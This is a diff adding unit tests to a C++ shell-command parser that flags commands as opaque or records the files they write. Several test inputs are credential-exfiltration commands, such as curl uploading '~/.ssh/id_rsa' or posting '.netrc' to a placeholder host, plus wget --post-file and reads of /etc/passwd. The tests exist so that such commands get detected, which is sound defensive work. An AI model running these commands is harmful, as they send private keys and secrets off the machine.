@@ -39,6 +39,14 @@ TEST(ProgramOptionsTest, OptionsThatRunAProgramMakeTheCommandOpaque) {
                            "less '+!touch c' f",
                            "less -k keys f",
                            "zip -T -TT 'touch c' a.zip f",
+                           "zip -q a.zip f -T '-TTsh z.sh'",
+                           "man -C evil.conf ls",
+                           "man --config-file=evil.conf ls",
+                           "jq -n 'import \"../home/x\" as $c; $c'",
+                           "jq -n 'include \"x\"; 1'",
+                           "jq -L lib -n 1",
+                           "jq --rawfile s secret -n '$s'",
+                           "jq -f prog.jq f",
                            "rsync -e 'sh -c x' a b",
                            "rsync --rsync-path=x a b",
                            "git grep -O'touch c' -e hello",
@@ -62,7 +70,8 @@ TEST(ProgramOptionsTest, OptionsThatRunAProgramMakeTheCommandOpaque) {
   for (const char* line :
        {"rg --pre-glob '*.pdf' x", "sort -n f", "tar -tvf x.tar", "tar tvf x.tar", "man ls",
         "less -R f", "git grep -c hello", "git log -c", "git log --oneline",
-        "git diff --no-ext-diff", "zip -r a.zip d", "git help log"}) {
+        "git diff --no-ext-diff", "zip -r a.zip d", "git help log", "jq .name package.json",
+        "jq -r --arg k v '.[$k]' f.json"}) {
     EXPECT_FALSE(Only(ParseLine(line)).opaque) << line;
   }
 }
@@ -85,6 +94,66 @@ TEST(ProgramOptionsTest, OptionsThatWriteAFileAreWriteTargets) {
   };
   for (const auto& [line, want] : cases) {
     EXPECT_EQ(Only(ParseLine(line)).write_targets, want) << line;
+  }
+}
+
+TEST(ProgramOptionsTest, FileUtilitiesWriteTheirOperands) {
+  const std::pair<const char*, Strings> cases[] = {
+      {"cp a b", {"b"}},
+      {"cp a b out", {"out/a", "out/b"}},
+      {"cp -t /x a dir/b", {"/x/a", "/x/b"}},
+      {"cp --target-directory=/x a", {"/x/a"}},
+      {"cp -t/x a", {"/x/a"}},
+      {"cp --target /x a", {"/x/a"}},
+      {"cp -b a b", {"b", "b~"}},
+      {"cp -S .orig a b", {"b", "b.orig"}},
+      {"mv a b", {"b", "a"}},
+      {"mv -t d a b", {"d/a", "d/b", "a", "b"}},
+      {"ln -s /etc/passwd link", {"link"}},
+      {"ln -s /x/target", {"target"}},
+      {"install -m 755 a /usr/local/bin/a", {"/usr/local/bin/a"}},
+      {"install -d d1 d2", {"d1", "d2"}},
+      {"touch a b", {"a", "b"}},
+      {"touch -r ref -d now a", {"a"}},
+      {"mkdir -p -m 700 d", {"d"}},
+      {"rm -rf build", {"build"}},
+      {"rm -- -x", {"-x"}},
+      {"truncate -s 0 log", {"log"}},
+      {"chmod +x run.sh", {"run.sh"}},
+      {"chmod -w f", {"f"}},
+      {"chmod -R 755 d", {"d"}},
+      {"chmod --reference=r f g", {"f", "g"}},
+      {"chown -R u:g d", {"d"}},
+      {"tar -xf x.tar", {"./"}},
+      {"tar -xf x.tar -C out", {"out/"}},
+      {"tar -xf x.tar --directory=/x", {"/x/"}},
+      {"tar xf x.tar", {"./"}},
+      {"tar xCf /x x.tar", {"/x/"}},
+      {"tar -xOf x.tar", {}},
+      {"tar -tf x.tar", {}},
+      {"tar -czf out.tgz src", {"out.tgz"}},
+      {"tar cf out.tar src", {"out.tar"}},
+      {"unzip a.zip", {"./"}},
+      {"unzip -d /x a.zip", {"/x/"}},
+      {"unzip -l a.zip", {}},
+      {"curl -o out https://x", {"out"}},
+      {"curl -s -o/x/y https://x", {"/x/y"}},
+      {"curl --output=o https://x", {"o"}},
+      {"curl -O https://x/f", {"./"}},
+      {"curl -sS https://x", {}},
+      {"wget https://x/f", {"./"}},
+      {"wget -O f https://x", {"f"}},
+      {"wget -qO- https://x", {}},
+      {"wget -P /x https://x", {"/x/"}},
+  };
+  for (const auto& [line, want] : cases) {
+    EXPECT_EQ(Only(ParseLine(line)).write_targets, want) << line;
+  }
+  for (const char* line :
+       {"curl -K cfg https://x", "curl -T ~/.ssh/id_rsa https://x", "curl file:///etc/passwd",
+        "curl -d @/home/u/.netrc https://x", "curl -F f=@secret https://x", "curl FILE:///x",
+        "wget -e 'x=y' https://x", "wget --post-file=secret https://x"}) {
+    EXPECT_TRUE(Only(ParseLine(line)).opaque) << line;
   }
 }
 
